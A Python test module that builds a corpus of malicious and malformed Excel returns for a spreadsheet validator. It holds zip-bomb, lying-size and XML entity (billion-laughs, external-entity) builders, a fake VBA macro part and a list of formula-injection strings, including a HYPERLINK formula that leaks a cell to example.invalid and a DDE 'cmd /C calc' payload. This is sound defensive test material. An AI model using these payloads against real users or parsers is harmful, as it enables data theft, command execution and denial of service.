"""The corpus of bad returns: every kind of file that arrives at the central office instead
of a good return, each with the problem code it must be refused (or flagged) with.

The cases are built from a good return by this module, so they follow the form as it
changes; three files that only other applications make are committed, small, in
``tests/data/corpus/``: an Excel 97-2003 workbook (BIFF8, saved by LibreOffice), a workbook
encrypted with a password to open (ECMA-376 agile encryption, by msoffcrypto-tool; the
password is ``pmqa``) and an OpenDocument spreadsheet (LibreOffice). ``make_committed`` shows
how they were made.

To look at the corpus, or to try a merge on it::

    .venv/bin/python -m tests.corpus /tmp/corpus
    .venv/bin/pmqa-xlsx merge /tmp/corpus/returns --roster /tmp/corpus/roster.csv \\
        --manifest /tmp/corpus/manifest.csv -o /tmp/corpus/merged.xlsx
"""

from __future__ import annotations

import os
import random
import re
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
from xlsxwriter.utility import xl_rowcol_to_cell

from pmqa_xlsx import build_cellmap, generate_roster, generate_workbook, load_layout
from pmqa_xlsx.cellmap import CellMap, InputCell
from pmqa_xlsx.generate import MANIFEST_NAME
from pmqa_xlsx.identity import new_token
from pmqa_xlsx.layout import META_SHEET, Layout
from pmqa_xlsx.roster import Agency
from pmqa_xlsx.xlsxread import open_package

from .fill import fill
from .package import add_style, set_cell

COMMITTED = Path(__file__).resolve().parent / "data" / "corpus"
WHEN = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + MAIN_NS + b'">'
              b"<sheetData>")
SHEET_TAIL = b"</sheetData></worksheet>"
# Text a person may type that a spreadsheet would run as a formula or follow as a link.
INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"ดูรายละเอียด")',
              "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tตัวอักษรแท็บ", "\rขึ้นบรรทัด",
              "=1+1"]

# Ten, so that with the corpus a merge has over 40 files and reads them in worker processes.
GOOD_AGENCIES = [Agency(code=f"030{i:02d}", name=f"กรมตัวอย่างที่ {i}", ministry="กระทรวงมหาดไทย")
                 for i in range(1, 11)]
INJECTING_AGENCY = Agency(code="03099", name='=HYPERLINK("http://example.invalid","กรม")',
                          ministry="@กระทรวง")
MISSING_AGENCY = Agency(code="03098", name="กรมที่ไม่ส่งคืน", ministry="กระทรวงมหาดไทย")
UNKNOWN_AGENCY = Agency(code="99999", name="หน่วยงานนอกบัญชี", ministry="กระทรวงอื่น")
# On the roster, but the manifest lists no workbook for it (its workbook was made by hand).
NOT_ISSUED_AGENCY = Agency(code="03097", name="กรมที่เพิ่มภายหลัง", ministry="กระทรวงมหาดไทย")


@dataclass(frozen=True)
class Case:
    """One bad file: its name in the corpus, the code it must carry (empty: none, the file
    must be read right), the state the reader gives it and the state the merge (with the
    roster) gives it."""

    name: str
    code: str
    state: str = "rejected"
    merge_state: str = "rejected"
    what: str = ""
    merge_only: bool = False  # only a merge, seeing the agency's other returns, finds it


CASES = [
    # damaged files
    Case("damaged-corrupted.xlsx", "damaged-file", what="bytes of a zip member overwritten"),
    Case("damaged-truncated.xlsx", "damaged-file", what="the first half of a return"),
    Case("damaged-empty.xlsx", "damaged-file", what="zero bytes"),
    # wrong formats
    Case("renamed-csv.xlsx", "not-excel", what="a CSV file renamed .xlsx"),
    Case("renamed-html.xlsx", "not-excel", what="a web page renamed .xlsx"),
    Case("old-format.xls", "old-excel-format", what="Excel 97-2003 (BIFF8), by LibreOffice"),
    Case("old-format-renamed.xlsx", "old-excel-format", what="the same, renamed .xlsx"),
    Case("opendocument-renamed.xlsx", "ods-file", what="an .ods by LibreOffice, renamed"),
    Case("strict.xlsx", "strict-ooxml", what="ISO 29500 Strict namespaces"),
    Case("macro.xlsm", "macro-workbook", what="a return with a VBA project"),
    Case("macro-renamed.xlsx", "macro-workbook", what="the same, renamed .xlsx"),
    Case("password.xlsx", "password-protected", what="encrypted with a password to open"),
    # zip bombs and limits
    Case("bomb-shared-strings.xlsx", "too-large", what="250,000 different shared strings: "
         "more markup in one part than any return holds"),
    Case("bomb-huge-part.xlsx", "zip-bomb", what="a 25 MB part in a small file"),
    Case("bomb-million-rows.xlsx", "zip-bomb", what="a sheet of a million rows"),
    Case("bomb-lying-sizes.xlsx", "damaged-file",
         what="a part declared as 1 KB that inflates to 30 MB: read to 1 KB, then its "
              "checksum fails"),
    Case("far-cell.xlsx", "far-cell", what="a value at XFD1048576"),
    Case("entities-billion-laughs.xlsx", "xml-doctype", what="nested entity expansion"),
    Case("entities-external.xlsx", "xml-doctype", what="an external entity to a local file"),
    Case("text-10mb.xlsx", "too-large", what="10 MB of Thai text in one cell"),
    # the wrong workbook
    Case("other-form.xlsx", "other-form", what="another form's workbook"),
    Case("unknown-version.xlsx", "unknown-version", what="this form at a version not bundled"),
    Case("no-metadata.xlsx", "no-metadata", what="the metadata sheet deleted"),
    Case("escape-codes.xlsx", "other-form",
         what="a form id holding terminal escape codes and a forged line of output"),
    Case("rows-inserted.xlsx", "structure-changed", what="sheet unprotected, 2 rows inserted"),
    Case("rows-deleted.xlsx", "structure-changed", what="sheet unprotected, a row deleted"),
    Case("wrong-agency.xlsx", "unknown-agency", state="ok", merge_state="unknown_agency",
         what="a good return of an agency not on the roster"),
    # not workbooks at all
    Case("~$03001.xlsx", "not-a-return", what="Excel's lock file"),
    Case(".~lock.03001.xlsx#", "not-a-return", what="LibreOffice's lock file"),
    Case("Thumbs.db", "not-a-return", what="Windows' thumbnail cache"),
    Case("readme.txt", "not-excel", what="a note left in the folder"),
    # number formats as spreadsheets store them (the reader's rules: pmqa_xlsx/numfmt.py)
    Case("format-thai-percent.xlsx", "typed-as-percent",
         what="85% typed in a number cell: Thai Excel's built-in id 68 (t0.00%), undefined"),
    Case("format-cjk-date.xlsx", "typed-as-date",
         what="a date in a number cell: Chinese Excel's built-in id 31, undefined"),
    Case("format-1904-date.xlsx", "typed-as-date",
         what="a date typed in a number cell of a workbook in the 1904 date system"),
    Case("format-hides-value.xlsx", "format-hides-value", what="a number formatted ;;;"),
    Case("format-scaled.xlsx", "format-hides-value", what="a number formatted #,##0, "
         "(shown in thousands)"),
    Case("pasted-date-in-text.xlsx", "shown-as-formatted", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="a text blank holding a date pasted from "
         "elsewhere: read as the date shown, never the serial 43555"),
    Case("superscript-digits.xlsx", "not-a-number", what="'10²' typed in a number cell"),
    # the package read as Excel reads it
    Case("parts-renamed.xlsx", "", state="ok", merge_state="ok",
         what="workbook, styles and sheets under other names and letter case, found through "
              "the relationships, with decoys at the usual names"),
    Case("part-twice.xlsx", "inconsistent-package", what="a sheet's part in the zip twice"),
    Case("part-twice-case.xlsx", "inconsistent-package",
         what="a sheet's part twice, in two letter cases"),
    Case("zip-header-disagrees.xlsx", "damaged-file",
         what="a local header naming another part than the central directory"),
    Case("cell-outside-rows.xlsx", "inconsistent-package",
         what="a cell hidden in the sheet's extensions, where no spreadsheet shows it"),
    Case("cell-twice.xlsx", "inconsistent-package", what="an input cell given twice"),
    Case("sheet-points-elsewhere.xlsx", "inconsistent-package",
         what="หมวด 3's relationship pointing at หมวด 7.2's part"),
    Case("rich-value.xlsx", "rich-value", what="a picture placed in an input cell (vm)"),
    Case("conditional-number-format.xlsx", "conditional-number-format",
         what="a conditional format that shows numbers as percentages"),
    Case("hidden-row.xlsx", "hidden-input", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="an answered row hidden"),
    Case("drawing.xlsx", "drawing-over-form", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="a shape drawn over หมวด 3"),
    Case("hidden-sheet.xlsx", "hidden-sheet", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="หมวด 3, answered, then hidden"),
    Case("merged-over-input.xlsx", "covered-input", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="an answered text blank merged into the cell on "
         "its left, which is all a spreadsheet shows"),
    # text and numbers no file should hold
    Case("lone-surrogate.xlsx", "lost-character", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="_xD800_ (a lone surrogate) in an answer"),
    Case("huge-style-index.xlsx", "unknown-style",
         what="a style index of 5,000 digits on an input cell"),
    Case("huge-row-number.xlsx", "inconsistent-package", what="a row numbered with 5,000 "
         "digits"),
    Case("docprops-oversized.xlsx", "unreadable-properties", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="100 KB of text in the document properties"),
    Case("markup-bomb.xlsx", "too-large",
         what="200,000 styled blank cells: within the size limits, far more markup than a "
              "return"),
    # Issue 10, an agency's identity cannot be confused or taken: codes in other spellings,
    # tokens, times that cannot be true, returns of one agency that differ.
    Case("code-thai-digits.xlsx", "duplicate", state="ok", merge_state="duplicate",
         merge_only=True, what="03002's return, its metadata code in Thai digits, saved earlier: "
         "03002's, and an identical copy"),
    Case("code-invisible.xlsx", "duplicate", state="ok", merge_state="duplicate",
         merge_only=True, what="03003's return, its metadata code in full-width digits with a "
         "zero-width space and a soft hyphen, saved earlier: 03003's"),
    Case("token-forged.xlsx", "token-mismatch", state="ok",
         what="03005's return with its metadata and identity code changed to 03004"),
    Case("token-missing.xlsx", "token-missing", state="ok",
         what="the blank form filled in for 03006, its code typed in Thai digits"),
    Case("not-issued.xlsx", "not-issued", state="ok",
         what="a workbook made by hand for a roster agency the manifest does not list"),
    Case("dated-2099.xlsx", "duplicate", state="ok", merge_state="duplicate", merge_only=True,
         what="a copy of 03008's return saved, as a file too, in 2099: not trusted, so 03008's "
              "own return counts"),
    Case("duplicate-differs.xlsx", "duplicate", state="ok", merge_state="duplicate",
         merge_only=True, what="03009's draft, saved earlier, 3 cells different: said on both"),

    # Issue 10, outputs: names and folders that must stop nothing (class A), temporary and
    # partial files that are never returns. Built in the folder itself: links, a loop, a tree
    # 1,000 folders deep, paths longer than the system allows, a name that is not UTF-8.
    Case("name-\udcff.xlsx", "bad-file-name", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="a good return whose name holds the byte 0xFF"),
    Case("loop.xlsx", "broken-link", what="a link to itself"),
    Case("dangling.xlsx", "broken-link", what="a link to a file that is not there"),
    Case("loop-folder", "folder-loop", what="a folder holding a link to itself"),
    Case("deep", "too-deep", what="a return 1,000 folders down"),
    Case("long-path", "unreadable-folder",
         what="folders with 250-character names, 20 deep: paths past the system's limit"),
    Case(".03001.xlsx.k2j4h6x8.tmp", "not-a-return",
         what="pmqa_xlsx's own temporary file, left by an interrupted write"),
    Case("~WRL0001.tmp", "not-a-return", what="Word's temporary file"),
    Case("03002.xlsx.crdownload", "not-a-return", what="a download under way (Chrome)"),
    Case("03003.xlsx.part", "not-a-return", what="a download under way (Firefox)"),
]

#: What the merge must also say about the cases above, and about the good returns they touch.
IDENTITY_ALSO = {"dated-2099.xlsx": ("untrusted-time",), "03009.xlsx": ("duplicate-differs",)}
#: The good return that counts instead of each duplicate above.
IDENTITY_COUNTED_INSTEAD = {"code-thai-digits.xlsx": "03002.xlsx",
                            "code-invisible.xlsx": "03003.xlsx",
                            "dated-2099.xlsx": "03008.xlsx",
                            "duplicate-differs.xlsx": "03009.xlsx"}

#: Agencies of the cases that are counted: each returns once, so that the merge counts it.
CASE_AGENCIES = {case.name: Agency(code=f"031{i:02d}", name=f"กรมกรณีทดสอบที่ {i}",
                                   ministry="กระทรวงมหาดไทย")
                 for i, case in enumerate((c for c in CASES if c.merge_state in
                                           ("ok", "ok_with_warnings")), start=1)}


def build(root: Path) -> dict[str, Path]:
    """Write into ``root/returns/`` the corpus, ten good returns and a good return whose
    texts try to inject formulas, ``root/roster.csv`` (the good agencies, the injecting one,
    one that never returns and one that was never issued a workbook) and ``root/manifest.csv``
    (the workbooks issued, their tokens). Returns the path of every file in returns/ by name."""
    folder = root / "returns"
    folder.mkdir(parents=True, exist_ok=True)
    layout = load_layout()
    cellmap = build_cellmap(layout)
    work = root / "work"
    work.mkdir(exist_ok=True)
    generate_roster(layout, [*GOOD_AGENCIES, INJECTING_AGENCY, MISSING_AGENCY,
                             *CASE_AGENCIES.values()], work / "sent", generated_at=WHEN)
    shutil.copyfile(work / "sent" / MANIFEST_NAME, root / MANIFEST_NAME)
    files: dict[str, Path] = {}
    for agency in GOOD_AGENCIES:
        files[f"{agency.code}.xlsx"] = good_return(layout, cellmap, agency, work,
                                                   folder / f"{agency.code}.xlsx")
    files["03099.xlsx"] = good_return(layout, cellmap, INJECTING_AGENCY, work,
                                      folder / "03099.xlsx", injections=True)
    base = files["03001.xlsx"]
    for case in CASES:
        target = folder / case.name
        agency = CASE_AGENCIES.get(case.name)
        own = base if agency is None else good_return(layout, cellmap, agency, work,
                                                      work / f"base-{agency.code}.xlsx")
        BUILDERS[case.name](own, target, layout, cellmap, work)
        files[case.name] = target
    shutil.rmtree(work)
    roster = root / "roster.csv"
    rows = ["agency_code,agency_name,ministry"] + [
        f'{a.code},"{a.name.replace(chr(34), chr(34) * 2)}",{a.ministry}'
        for a in (*GOOD_AGENCIES, INJECTING_AGENCY, MISSING_AGENCY, NOT_ISSUED_AGENCY,
                  *CASE_AGENCIES.values())]
    roster.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return files


def good_return(layout: Layout, cellmap: CellMap, agency: Agency, work: Path, target: Path,
                injections: bool = False) -> Path:
    """The agency's workbook as issued (``work/sent``), else one made for it, filled in."""
    blank = work / "sent" / agency.file_name
    if not blank.exists():
        blank = work / f"blank-{agency.code}.xlsx"
        generate_workbook(layout, blank, agency=agency, generated_at=WHEN)
    overrides = {}
    if injections:
        texts = [c for c in cellmap.inputs() if c.kind == "text"]
        overrides = {f"{c.sheet}!{c.ref}": text for c, text in zip(
            texts, [*INJECTIONS, *MARKUP_INJECTIONS], strict=False)}
    fill(cellmap, blank, target, overrides, agency_code=agency.code)
    return target


# --------------------------------------------------------------------------------------------
# Builders: (a good return, the target, layout, cell map, a scratch folder)
# --------------------------------------------------------------------------------------------

Builder = Callable[[Path, Path, Layout, CellMap, Path], None]


def rewrite_zip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None],
                extra: dict[str, bytes] | None = None) -> Path:
    """Copy an xlsx package, passing each part through ``change`` (None drops it)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def replace_part(src: Path, dst: Path, member: str, data: bytes) -> Path:
    """A copy of ``src`` with one part's content replaced."""
    return rewrite_zip(src, dst, lambda name, old: data if name == member else old)


def sheet_part(workbook: Path, title: str) -> str:
    """The zip member that holds the sheet ``title``."""
    with open_package(workbook) as package:
        sheet = package.sheet(title)
        assert sheet is not None, title
        return sheet.path


def _bytes(data: bytes) -> Builder:
    return lambda base, target, *_: target.write_bytes(data)


def _from_base(change: Callable[[bytes], bytes]) -> Builder:
    return lambda base, target, *_: target.write_bytes(change(base.read_bytes()))


def _committed(name: str) -> Builder:
    return lambda base, target, *_: shutil.copyfile(COMMITTED / name, target)


def _strict(base: Path, target: Path, *_: object) -> None:
    strict_ns = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
    rewrite_zip(base, target, lambda name, data: data.replace(MAIN_NS, strict_ns)
                if name.endswith(".xml") else data)


def _macro(base: Path, target: Path, *_: object) -> None:
    def content_types(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return data.replace(b"spreadsheetml.sheet.main+xml",
                                b"ms-excel.sheet.macroEnabled.main+xml").replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/'
                b'vnd.ms-office.vbaProject"/></Types>')
        return data

    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"" * 20
    rewrite_zip(base, target, content_types, {"xl/vbaProject.bin": vba})


_SST_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SST_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _shared_strings(data: bytes) -> Builder:
    """The shared strings part replaced, or added with its content type and relationship
    (a return saved by openpyxl, like the good ones here, stores its texts inline)."""
    def build_(base: Path, target: Path, *_: object) -> None:
        member = "xl/sharedStrings.xml"
        with zipfile.ZipFile(base) as package:
            present = member in package.namelist()

        def change(name: str, old: bytes) -> bytes:
            if name == member:
                return data
            if not present and name == "[Content_Types].xml":
                return old.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" '
                                   b'ContentType="' + _SST_TYPE + b'"/></Types>')
            if not present and name == "xl/_rels/workbook.xml.rels":
                return old.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="'
                                   + _SST_REL + b'" Target="sharedStrings.xml"/>'
                                   b"</Relationships>")
            return old

        rewrite_zip(base, target, change, None if present else {member: data})
    return build_


def _sheet(content: Callable[[bytes], bytes], title: str = "หมวด 3") -> Builder:
    def build_(base: Path, target: Path, *_: object) -> None:
        member = sheet_part(base, title)
        with zipfile.ZipFile(base) as package:
            original = package.read(member)
        replace_part(base, target, member, content(original))
    return build_


def _million_rows(_: bytes) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i)
                    for i in range(1, 1_000_001))
    return SHEET_HEAD + rows + SHEET_TAIL


def _far_cell(sheet: bytes) -> bytes:
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return sheet.replace(b"</sheetData>", far + b"</sheetData>")


def _lying_sizes(base: Path, target: Path, *_: object) -> None:
    """The zip says a part is 1,000 bytes; it inflates to 30 MB."""
    member = sheet_part(base, "หมวด 3")
    replace_part(base, target, member, SHEET_HEAD + b" " * (30 * 1024 * 1024) + SHEET_TAIL)
    data = bytearray(target.read_bytes())
    name = member.encode()
    for signature, size_at, name_len_at, header in ((b"PK\x03\x04", 22, 26, 30),
                                                    (b"PK\x01\x02", 24, 28, 46)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_len = struct.unpack_from("<H", data, start + name_len_at)[0]
            if bytes(data[start + header: start + header + name_len]) == name:
                struct.pack_into("<I", data, start + size_at, 1000)
            start += 4
    target.write_bytes(bytes(data))


def _with_doctype(doctype: bytes) -> Builder:
    """The workbook part declaring entities, and a sheet name using the last one."""
    def build_(base: Path, target: Path, *_: object) -> None:
        def change(name: str, data: bytes) -> bytes:
            if name == "xl/workbook.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                return b'<?xml version="1.0"?>' + doctype + body.replace(
                    b'name="', b'name="&x;', 1)
            return data
        rewrite_zip(base, target, change)
    return build_


def _edit(change: Callable[[openpyxl.Workbook], None]) -> Builder:
    def build_(base: Path, target: Path, *_: object) -> None:
        book = openpyxl.load_workbook(base)
        change(book)
        book.save(target)
    return build_


def _set_meta(cell: str, value: str) -> Callable[[openpyxl.Workbook], None]:
    def change(book: openpyxl.Workbook) -> None:
        book[META_SHEET][cell] = value
    return change


def _wrong_agency(base: Path, target: Path, layout: Layout, cellmap: CellMap,
                  work: Path) -> None:
    good_return(layout, cellmap, UNKNOWN_AGENCY, work, target)


def _copy(base: Path, target: Path, *_: object) -> None:
    shutil.copyfile(base, target)


def _thai_text(size: int) -> bytes:
    """``size`` bytes of Thai letters in a seeded random order: text that compresses about as
    well as real text, so that it passes the ratio check and meets the text limit."""
    letters = [chr(c).encode() for c in range(0x0E01, 0x0E2F)]
    rng = random.Random(6)
    return b"".join(rng.choices(letters, k=size // 3))


# --------------------------------------------------------------------------------------------
# Builders of the reader's cases: number formats, the package as Excel reads it, text and
# numbers no file should hold. Each edits the parts of a good return (saved by openpyxl: its
# texts are inline strings, its styles in xl/styles.xml).
# --------------------------------------------------------------------------------------------

_STYLES_PART = "xl/styles.xml"
_BOOK_RELS = "xl/_rels/workbook.xml.rels"


def _first(cellmap: CellMap, kind: str) -> InputCell:
    return next(c for c in cellmap.inputs() if c.kind == kind)


def _cell_edit(kind: str, inner: str, format_id: int | None = None, code: str | None = None,
               attrs: str = "", book: Callable[[bytes], bytes] | None = None) -> Builder:
    """The first input of ``kind`` rewritten to hold ``inner``, with a new style of number
    format ``format_id`` (``code`` defines it; None leaves the id undefined, as Excel does for
    built-in ids) and ``attrs``; ``book`` edits xl/workbook.xml too."""
    def build_(base: Path, target: Path, layout: Layout, cellmap: CellMap, work: Path) -> None:
        cell = _first(cellmap, kind)
        member = sheet_part(base, cell.sheet)
        with zipfile.ZipFile(base) as package:
            styles = package.read(_STYLES_PART)
        style = ""
        if format_id is not None:
            styles, index = add_style(styles, format_id, code)
            style = f's="{index}"'

        def change(name: str, data: bytes) -> bytes:
            if name == member:
                return set_cell(data, cell.ref, inner, f"{style} {attrs}".strip())
            if name == _STYLES_PART:
                return styles
            if name == "xl/workbook.xml" and book is not None:
                return book(data)
            return data
        rewrite_zip(base, target, change)
    return build_


def _date1904(book: bytes) -> bytes:
    return book.replace(b"<workbookPr", b'<workbookPr date1904="1"', 1) \
        if b"<workbookPr" in book else book.replace(b"<sheets>", b'<workbookPr date1904="1"/>'
                                                    b"<sheets>", 1)


def _renamed_parts(base: Path, target: Path, *_: object) -> None:
    """The workbook, its styles and its sheets moved to other names (and letter cases), the
    relationships and content types following them; decoys left at the usual names would
    make a reader of fixed names see a percent format on every cell and other sheets."""
    moves = {"xl/workbook.xml": "xl/Book.XML", "xl/styles.xml": "xl/Look/Styles2.xml",
             "xl/_rels/workbook.xml.rels": "xl/_rels/Book.XML.rels"}
    with zipfile.ZipFile(base) as package:
        parts = {i.filename: package.read(i) for i in package.infolist()}
    sheets = sorted(n for n in parts if n.startswith("xl/worksheets/"))
    for n, name in enumerate(sheets, start=1):
        moves[name] = f"xl/Pages/Page{n}.xml"
    out: dict[str, bytes] = {}
    for name, data in parts.items():
        if name == "[Content_Types].xml":
            for old, new in moves.items():
                data = data.replace(f'"/{old}"'.encode(), f'"/{new}"'.encode())
        elif name == "_rels/.rels":
            data = data.replace(b"xl/workbook.xml", b"xl/Book.XML")
        elif name == "xl/_rels/workbook.xml.rels":
            for old, new in moves.items():
                data = data.replace(f'"/{old}"'.encode(), f'"/{new}"'.encode())
            data = data.replace(b'Target="styles.xml"', b'Target="Look/Styles2.xml"')
        out[moves.get(name, name)] = data
    decoy_styles = re.sub(rb'numFmtId="\d+"', b'numFmtId="10"', parts["xl/styles.xml"])
    out["xl/styles.xml"] = decoy_styles
    out["xl/worksheets/sheet3.xml"] = SHEET_HEAD + SHEET_TAIL
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in out.items():
            package.writestr(name, data)


def _part_twice(case_of: Callable[[str], str]) -> Builder:
    """A sheet's part added a second time (under ``case_of`` its name), holding other
    answers: which copy a reader takes is anyone's guess."""
    def build_(base: Path, target: Path, layout: Layout, cellmap: CellMap, work: Path) -> None:
        cell = _first(cellmap, "number")
        member = sheet_part(base, cell.sheet)
        with zipfile.ZipFile(base) as package:
            forged = set_cell(package.read(member), cell.ref, "<v>1</v>", 't="n"')
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: the point
            rewrite_zip(base, target, lambda name, data: data, {case_of(member): forged})
    return build_


def _header_disagrees(base: Path, target: Path, layout: Layout, cellmap: CellMap,
                      work: Path) -> None:
    """The local header of a sheet names another part (of the same length) than the central
    directory does: zipfile refuses that, other readers take the header."""
    member = sheet_part(base, _first(cellmap, "number").sheet).encode()
    data = bytearray(base.read_bytes())
    start = data.find(b"PK\x03\x04")
    while start >= 0:
        name_len = struct.unpack_from("<H", data, start + 26)[0]
        if bytes(data[start + 30:start + 30 + name_len]) == member:
            data[start + 30 + name_len - 5] ^= 0x01  # sheet3.xml -> sheet2.xml
            break
        start = data.find(b"PK\x03\x04", start + 4)
    target.write_bytes(bytes(data))


def _in_sheet(kind: str, change: Callable[[bytes, InputCell], bytes]) -> Builder:
    def build_(base: Path, target: Path, layout: Layout, cellmap: CellMap, work: Path) -> None:
        cell = _first(cellmap, kind)
        member = sheet_part(base, cell.sheet)
        with zipfile.ZipFile(base) as package:
            original = package.read(member)
        replace_part(base, target, member, change(original, cell))
    return build_


def _hidden_cell(sheet: bytes, cell: InputCell) -> bytes:
    ext = (f'<extLst><ext uri="{{00000000-0000-0000-0000-000000000000}}"><c r="{cell.ref}" '
           f'xmlns="{MAIN_NS.decode()}"><v>99</v></c></ext></extLst>').encode()
    return sheet.replace(b"</worksheet>", ext + b"</worksheet>")


def _cell_twice(sheet: bytes, cell: InputCell) -> bytes:
    found = re.search(rb'<c r="' + cell.ref.encode() + rb'"[^>]*>.*?</c>', sheet, re.DOTALL)
    assert found is not None
    return sheet[:found.end()] + found.group().replace(b"<v>", b"<v>1") + sheet[found.end():]


def _hidden_row(sheet: bytes, cell: InputCell) -> bytes:
    return re.sub(rb'<row r="' + str(cell.row + 1).encode() + rb'"', lambda m: m.group() +
                  b' hidden="1"', sheet, count=1)


def _huge_row(sheet: bytes, cell: InputCell) -> bytes:
    return sheet.replace(b"</sheetData>", b'<row r="' + b"9" * 5000 + b'"><c><v>1</v></c>'
                         b"</row></sheetData>")


def _sheet_points_elsewhere(base: Path, target: Path, *_: object) -> None:
    first, second = sheet_part(base, "หมวด 3"), sheet_part(base, "หมวด 7.2")
    rewrite_zip(base, target, lambda name, data: data.replace(
        f'Target="/{first}"'.encode(), f'Target="/{second}"'.encode())
        if name == _BOOK_RELS else data)


def with_sheet_part(base: Path, target: Path, sheet: str, element: str, kind: str,
                    part: str, data: bytes) -> Path:
    """A copy of ``base`` whose ``sheet`` refers (by ``<element r:id>``, relationship type
    ``kind``) to a new part ``xl/drawings/<part>`` holding ``data``: a drawing, a legacy
    (VML) drawing."""
    member = sheet_part(base, sheet)
    folder, name = member.rsplit("/", 1)
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rIdX" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/' + kind.encode() +
            b'" Target="../drawings/' + part.encode() + b'"/></Relationships>')

    def change(name_: str, old: bytes) -> bytes:
        if name_ != member:
            return old
        old = old.replace(b"<worksheet ", b'<worksheet xmlns:r="http://schemas.'
                          b'openxmlformats.org/officeDocument/2006/relationships" ', 1)
        return re.sub(rb"(</sheetData>.*?)(</worksheet>)", lambda m: m.group(1) + b"<" +
                      element.encode() + b' r:id="rIdX"/>' + m.group(2), old, count=1,
                      flags=re.S)
    return rewrite_zip(base, target, change, {f"{folder}/_rels/{name}.rels": rels,
                                              f"xl/drawings/{part}": data})


def _drawing(base: Path, target: Path, *_: object) -> None:
    with_sheet_part(base, target, "หมวด 3", "drawing", "drawing", "drawing1.xml",
                    b'<?xml version="1.0"?><xdr:wsDr xmlns:xdr="http://schemas.'
                    b'openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>')


def _conditional_number_format(base: Path, target: Path, layout: Layout, cellmap: CellMap,
                               work: Path) -> None:
    cell = _first(cellmap, "number")
    member = sheet_part(base, cell.sheet)
    rule = (f'<conditionalFormatting sqref="{cell.ref}"><cfRule type="expression" dxfId="0" '
            'priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>').encode()

    def change(part: str, data: bytes) -> bytes:
        if part == member:
            return re.sub(rb"(</sheetData>)", lambda m: m.group(1) + rule, data, count=1)
        if part == _STYLES_PART:
            dxf = b'<dxfs count="1"><dxf><numFmt numFmtId="10" formatCode="0.00%"/></dxf></dxfs>'
            data = re.sub(rb"<dxfs[^>]*/>|<dxfs[^>]*>.*?</dxfs>", b"", data, flags=re.S)
            return data.replace(b"</cellStyles>", b"</cellStyles>" + dxf, 1) \
                if b"</cellStyles>" in data else data.replace(b"</styleSheet>",
                                                               dxf + b"</styleSheet>")
        return data
    rewrite_zip(base, target, change)


def _hidden_sheet(base: Path, target: Path, *_: object) -> None:
    rewrite_zip(base, target, lambda name, data: re.sub(
        'name="หมวด 3"([^>]*)state="visible"'.encode(), lambda m: 'name="หมวด 3"'.encode()
        + m.group(1) + b'state="hidden"', data) if name == "xl/workbook.xml" else data)


def _merged_over_input(sheet: bytes, cell: InputCell) -> bytes:
    merge = f'<mergeCell ref="{xl_rowcol_to_cell(cell.row, cell.col - 1)}:{cell.ref}"/>'.encode()
    return re.sub(rb"(<mergeCells[^>]*>)", lambda m: m.group(1) + merge, sheet, count=1)


def _docprops_oversized(base: Path, target: Path, *_: object) -> None:
    core = (b'<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.'
            b'openxmlformats.org/package/2006/metadata/core-properties" xmlns:dcterms="http://'
            b'purl.org/dc/terms/"><dcterms:modified>' + b"2099-01-01T00:00:00Z " * 5000 +
            b"</dcterms:modified></cp:coreProperties>")
    replace_part(base, target, "docProps/core.xml", core)


def _markup_bomb(sheet: bytes, cell: InputCell) -> bytes:
    blanks = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d" s="1"/>' % (col, r)
                                                     for col in (b"Q", b"R", b"S", b"T"))
                      + b"</row>" for r in range(200, 50_200))
    return re.sub(rb"(</sheetData>)", lambda m: blanks + m.group(1), sheet, count=1)


READER_BUILDERS: dict[str, Builder] = {
    "format-thai-percent.xlsx": _cell_edit("number", "<v>0.85</v>", 68, attrs='t="n"'),
    "format-cjk-date.xlsx": _cell_edit("number", "<v>43555</v>", 31, attrs='t="n"'),
    "format-1904-date.xlsx": _cell_edit("number", "<v>43555</v>", 14, attrs='t="n"',
                                        book=_date1904),
